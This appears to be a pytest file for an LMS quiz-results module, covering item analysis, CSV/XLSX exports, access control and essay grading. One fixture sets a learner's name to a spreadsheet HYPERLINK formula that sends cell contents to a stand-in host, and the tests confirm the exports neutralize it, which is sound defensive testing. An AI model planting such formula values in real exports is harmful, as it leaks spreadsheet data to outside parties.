"""What trainers see of a quiz: attempts, CSV, item analysis, essays to grade."""

import csv
import datetime
import io
from decimal import Decimal

import openpyxl
import pytest

from courses.models import CoursePage
from lms.enrollment import services as enrollment_services
from lms.quizzes import results, services
from lms.quizzes.models import Attempt, Question, Response


@pytest.fixture
def two_question_quiz(make_quiz, make_question):
    easy = make_question(name="Dễ", answers=[("Đúng", 1), ("Sai", 0)], shuffle_answers=False)
    hard = make_question(name="Khó", answers=[("Đúng", 1), ("Sai", 0)], shuffle_answers=False)
    return make_quiz([easy, hard], slug="kiem-tra-thong-ke"), easy, hard


def take(user, quiz, right_easy, right_hard):
    enrollment_services.enroll(user, CoursePage.of(quiz))
    attempt = services.start_attempt(user, quiz)
    raw = {}
    for response in attempt.responses.select_related("question"):
        want_right = right_easy if response.question.name == "Dễ" else right_hard
        chosen = response.question.answers.get(text="Đúng" if want_right else "Sai")
        raw[response.pk] = str(chosen.pk)
    services.save_answers(attempt.pk, user, raw)
    return services.submit_attempt(attempt.pk, user)


@pytest.fixture
def cohort(make_user, two_question_quiz):
    quiz, _easy, _hard = two_question_quiz
    # Strong learners get both right, weak ones only the easy one, one learner fails both.
    outcomes = [(True, True), (True, True), (True, False), (True, False), (False, False)]
    for number, (easy, hard) in enumerate(outcomes):
        take(make_user(email=f"hv{number}@example.vn", full_name=f"Học viên {number}"), quiz, easy, hard)
    return quiz


def test_item_analysis_gives_facility_and_discrimination(cohort):
    easy, hard = results.item_analysis(cohort)

    assert (easy.name, easy.attempts, easy.facility) == ("Dễ", 5, 80.0)
    assert (hard.name, hard.facility) == ("Khó", 40.0)
    assert hard.discrimination == pytest.approx(40.8248, abs=0.01)
    assert easy.discrimination == pytest.approx(40.8248, abs=0.01)


def test_a_question_everybody_gets_right_has_no_discrimination(make_user, two_question_quiz):
    quiz, _easy, _hard = two_question_quiz
    for number in range(3):
        take(make_user(email=f"gioi{number}@example.vn"), quiz, True, True)
    assert [row.discrimination for row in results.item_analysis(quiz)] == [None, None]


def test_results_csv_has_a_row_per_attempt_and_opens_in_excel(cohort):
    text = results.results_csv(cohort)

    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert len(rows) == 6
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first[rows[0][0]] == "Học viên 0"
    assert rows[1][-3:] == ["100", "1", "1"]


@pytest.fixture
def trainer_client(client, make_trainer):
    """A client signed in as a trainer of the given quiz's course."""

    def sign_in(quiz):
        client.force_login(make_trainer(CoursePage.of(quiz)))
        return client

    return sign_in


def test_trainers_see_attempts_and_download_the_csv(trainer_client, cohort):
    trainer_client = trainer_client(cohort)
    page = trainer_client.get(f"/admin/quizzes/{cohort.pk}/attempts/").content.decode()
    assert "Học viên 4" in page and "80,0%" in page

    download = trainer_client.get(f"/admin/quizzes/{cohort.pk}/attempts.csv")
    assert download["Content-Type"].startswith("text/csv")
    assert "Học viên 0" in download.content.decode("utf-8-sig")


def test_learners_cannot_see_results(learner_client, cohort):
    assert learner_client.get(f"/admin/quizzes/{cohort.pk}/attempts/").status_code in (302, 403)
    assert learner_client.get(f"/admin/quizzes/{cohort.pk}/attempts.csv").status_code in (302, 403)


def test_trainers_grade_essays_and_bad_marks_are_refused(trainer_client, learner, make_quiz, make_question):
    essay = make_question(Question.Type.ESSAY, name="Tự luận")
    quiz = make_quiz([essay], slug="tu-luan")
    enrollment_services.enroll(learner, CoursePage.of(quiz))
    attempt = services.start_attempt(learner, quiz)
    response = attempt.responses.get()
    services.save_answers(attempt.pk, learner, {response.pk: "Không bấm vào đường link lạ."})
    services.submit_attempt(attempt.pk, learner)
    trainer_client = trainer_client(quiz)

    page = trainer_client.get(f"/admin/quizzes/{quiz.pk}/grading/").content.decode()
    assert "Không bấm vào đường link lạ." in page

    trainer_client.post(f"/admin/quizzes/{quiz.pk}/grading/", {"response": response.pk, "mark": "5", "comment": ""})
    assert Response.objects.get(pk=response.pk).mark is None
    trainer_client.post(f"/admin/quizzes/{quiz.pk}/grading/", {"response": response.pk, "mark": "abc"})
    assert Response.objects.get(pk=response.pk).mark is None

    trainer_client.post(f"/admin/quizzes/{quiz.pk}/grading/", {"response": response.pk, "mark": "0,5", "comment": "Khá"})
    graded = Attempt.objects.get(pk=attempt.pk)
    assert graded.state == Attempt.State.FINISHED and graded.percent == Decimal("50.00")
    assert Response.objects.get(pk=response.pk).grader_comment == "Khá"


@pytest.fixture
def a_third_right(make_user, make_quiz, make_question):
    """A learner named like a formula, with one question right of three: 33.33%."""
    questions = [make_question(name=f"Câu {n}", answers=[("Đúng", 1), ("Sai", 0)]) for n in range(3)]
    quiz = make_quiz(questions, slug="mot-phan-ba")
    user = make_user(email="cong.thuc@example.vn", full_name='=HYPERLINK("http://x.example/?"&A1,"Bấm")')
    enrollment_services.enroll(user, CoursePage.of(quiz))
    attempt = services.start_attempt(user, quiz)
    raw = {}
    for response in attempt.responses.select_related("question"):
        text = "Đúng" if response.position == 1 else "Sai"
        raw[response.pk] = str(response.question.answers.get(text=text).pk)
    services.save_answers(attempt.pk, user, raw)
    services.submit_attempt(attempt.pk, user)
    return quiz


def test_the_xlsx_results_hold_real_numbers_and_dates_and_no_formula(trainer_client, a_third_right):
    download = trainer_client(a_third_right).get(f"/admin/quizzes/{a_third_right.pk}/attempts.xlsx")

    assert download.status_code == 200
    assert download["Content-Disposition"].endswith('.xlsx"')
    sheet = openpyxl.load_workbook(io.BytesIO(download.content)).active
    header = [cell.value for cell in sheet[1]]
    row = dict(zip(header, [cell.value for cell in sheet[2]], strict=True))
    assert header[0] == "Họ và tên"
    assert row["Điểm số (%)"] == pytest.approx(33.33) and isinstance(row["Điểm số (%)"], float | int)
    assert row["Câu 1"] == 1 and row["Câu 2"] == 0
    assert isinstance(row[header[5]], datetime.datetime)  # started, as a date Excel can sort
    assert row[header[0]] == '\'=HYPERLINK("http://x.example/?"&A1,"Bấm")'
    assert sheet.cell(row=2, column=1).data_type == "s"


def test_the_csv_results_use_a_decimal_point_and_no_formula(a_third_right):
    rows = list(csv.reader(io.StringIO(results.results_csv(a_third_right).lstrip("\ufeff"))))

    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Điểm số (%)"] == "33.33"
    assert row[rows[0][0]].startswith("'=HYPERLINK")
